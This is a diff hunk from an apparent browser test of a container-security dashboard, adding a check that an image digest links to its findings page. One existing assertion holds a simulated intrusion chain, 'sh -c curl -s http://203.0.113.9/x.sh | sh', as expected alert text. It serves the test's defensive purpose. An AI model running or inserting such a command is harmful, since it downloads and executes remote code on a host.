@@ -454,6 +454,8 @@ describe.skipIf(!ready())('the dashboard in a real browser', () => {
     expect(await cell('Process').textContent()).toContain('user id 0 (root)');
     expect(await cell('Started by').getByRole('listitem').allTextContents()).toEqual(['sh (pid 4242): sh -c curl -s http://203.0.113.9/x.sh | sh', 'containerd-shim-runc-v2 (pid 4100)']);
     expect(await cell('Container').textContent()).toContain(`image ${runningImage}`);
+    // An image the kubelet reports by digest links to its findings.
+    if (registry) expect(await cell('Container').getByRole('link', { name: `findings of image ${runningImage}` }).getAttribute('href')).toBe(`/images?digest=${encodeURIComponent(runningImage.slice(runningImage.indexOf('@') + 1))}`);
     expect(await host.getByRole('link', { name: 'alerts on container shell' }).getAttribute('href')).toBe(`/alerts?resource=${batch.alerts[0]!.resource.id}`);
     expect(await host.getByRole('link', { name: 'alerts on pod build-runner' }).getAttribute('href')).toBe('/alerts?q=build-runner&namespace=payments');
     expect(await host.getByRole('link', { name: 'payments' }).getAttribute('href')).toBe('/alerts?namespace=payments');
